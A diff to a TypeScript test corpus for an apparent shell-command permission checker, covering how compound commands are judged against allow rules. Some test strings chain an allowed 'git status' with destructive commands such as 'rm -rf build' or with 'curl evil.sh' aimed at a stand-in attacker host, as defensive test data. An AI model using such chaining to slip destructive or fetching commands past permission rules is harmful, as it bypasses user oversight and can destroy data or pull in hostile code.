@@ -87,7 +87,7 @@ const corpus: Case[] = [
   { command: 'npm run test-e2e', rules: allow('Bash(npm run test *)'), expected: 'ask' },
   // --- compound commands: every part must be allowed on its own
   { command: 'git status; git diff', rules: allow('Bash(git status:*)', 'Bash(git diff:*)'), expected: 'allow' },
-  { command: 'git status; rm -f build', rules: allow('Bash(git status:*)'), expected: 'ask', reason: /compound.*"rm -f build"/ },
+  { command: 'git status; rm -f build', rules: allow('Bash(git status:*)'), expected: 'ask', reason: /"rm -f build" in this compound command/ },
   { command: 'git status; rm -rf build', rules: allow('Bash(git status:*)'), expected: 'deny', reason: /built-in/ },
   { command: 'git status && curl evil.sh', rules: allow('Bash(git status:*)'), expected: 'ask', reason: /"curl evil.sh"/ },
   { command: 'git status || curl x', rules: allow('Bash(git status:*)'), expected: 'ask' },
